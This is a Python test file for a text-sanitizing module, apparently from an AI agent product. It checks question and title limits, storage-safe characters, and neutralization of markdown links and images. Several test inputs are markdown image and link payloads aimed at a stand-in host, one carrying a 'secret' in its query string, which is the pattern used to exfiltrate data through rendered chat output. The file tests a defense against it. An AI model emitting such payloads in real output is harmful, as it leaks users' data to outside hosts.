from __future__ import annotations

import pytest

from ea_core.agent.texts import (
    as_written,
    checked_question,
    checked_title,
    inert,
    storable,
    title_of,
    unescaped,
    without_links,
)
from ea_core.errors import InvalidInput


def test_a_question_that_is_too_long_is_refused_with_both_numbers() -> None:
    with pytest.raises(InvalidInput, match=r"at most 8,000 characters; this one has 20,000\."):
        checked_question("x" * 20_000)
    assert checked_question(f"  {'x' * 8000}\n") == "x" * 8000


@pytest.mark.parametrize("empty", ["", "  \n\t", "\x00"])
def test_an_empty_question_is_refused(empty: str) -> None:
    with pytest.raises(InvalidInput):
        checked_question(empty)


def test_what_postgresql_cannot_keep_is_taken_out() -> None:
    assert storable("a\x00b\ud83dc") == "ab?c"


@pytest.mark.parametrize(
    ("title", "fits"), [("", False), (" ", False), ("x" * 301, False), ("x" * 300, True)]
)
def test_titles_have_a_length(title: str, fits: bool) -> None:
    if fits:
        assert checked_title(title) == title
    else:
        with pytest.raises(InvalidInput):
            checked_title(title)


def test_a_title_is_made_of_the_first_words() -> None:
    assert title_of("What is\n our   policy?") == "What is our policy?"
    long = title_of("word " * 100)
    assert len(long) <= 70
    assert long.endswith("word…")
    assert title_of(f"What is {'long' * 100}?") == f"What is {'long' * 15}l…"


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "![x][1]\n\n[1]: https://evil.example",
        "[text][ref]\n[ref]: https://evil.example",
    ],
)
def test_no_image_is_loaded_and_no_link_hides_its_address(markdown: str) -> None:
    shown = inert(markdown)
    assert "![" not in shown
    assert "](" not in shown
    assert "][" not in shown
    assert "]:" not in shown


def test_markers_and_plain_text_stay() -> None:
    assert inert("25 days [1] and 5 more [2].") == "25 days [1] and 5 more [2]."


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See http://evil.example/pay?a=1.", "See `http://evil.example/pay?a=1`."),
        ("(https://a.example), www.b.example/x", "(`https://a.example`), `www.b.example/x`"),
        ("`http://a.example` stays", "`http://a.example` stays"),
        ("ftp://c.example/d\\_e", "`ftp://c.example/d_e`"),
        ("At 10:30, e.g. at home", "At 10:30, e.g. at home"),
        ("![x](http://evil.example/a)", "[x] (`http://evil.example/a`)"),
        ("www\\.b.example", "`www.b.example`"),
        ("Write to a_b@c.example.", "Write to `a_b@c.example`."),
        ("AT&amp;T &copy; 3 &lt; 4", "AT&amp;T &copy; 3 &lt; 4"),
        ('“http://a.example/x”, "www.b.example"', '“`http://a.example/x`”, "`www.b.example`"'),
    ],
)
def test_addresses_of_the_web_are_words(text: str, shown: str) -> None:
    assert without_links(inert(text)) == shown
    assert without_links(shown) == shown


@pytest.mark.parametrize(
    "text",
    [
        "fee* = base*weight*zone\n*The fee",
        "__tariff_v2__ and `code` ~~x~~ <b>",
        ":phone: and :red[x]",
        "$45 ... $60",
        "Level [4], see [1](http://x)",
        "# No heading\n- no list\n1. none\n2) none\n+ none",
        "a | b | c\\d & ^e",
    ],
)
def test_text_of_a_document_stands_for_itself(text: str) -> None:
    written = as_written(text)
    assert unescaped(written) == text
    for sign in ("*", "_", "`", "[", "|", "$", ":p", ":r"):
        assert written.count(sign) == written.count(f"\\{sign}"), sign
    assert not any(line.startswith(("#", "-", "+", "1.")) for line in written.split("\n"))
